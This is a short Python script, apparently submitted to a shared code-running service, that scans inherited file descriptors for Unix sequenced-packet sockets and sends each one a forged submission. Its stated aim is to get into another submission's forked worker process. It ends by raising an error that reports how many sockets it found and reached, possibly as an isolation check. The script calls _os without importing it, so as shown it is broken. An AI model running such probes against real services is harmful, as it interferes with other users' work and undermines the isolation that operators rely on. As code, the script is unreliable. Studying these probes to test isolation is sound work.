# Look for a way into another submission's process: every Unix socket this process holds
# that it did not open itself (a child forked ahead waits for its submission on one), and
# send each a forged submission.
import json as _json
import socket as _socket


def reach_children_forked_ahead():
    found = reached = 0
    forged = _json.dumps({"module": "main", "attr": "app", "private": False, "file": "/nonexistent/main.py"}).encode()
    for fd in range(3, 1024):
        try:
            probe = _socket.socket(fileno=_os.dup(fd))
        except OSError:
            continue
        try:
            if probe.family == _socket.AF_UNIX and probe.type == _socket.SOCK_SEQPACKET:
                found += 1
                probe.sendall(forged)
                reached += 1
        except OSError:
            pass
        finally:
            probe.close()
    raise RuntimeError(f"FOUND {found} sockets, REACHED {reached}")


reach_children_forked_ahead()
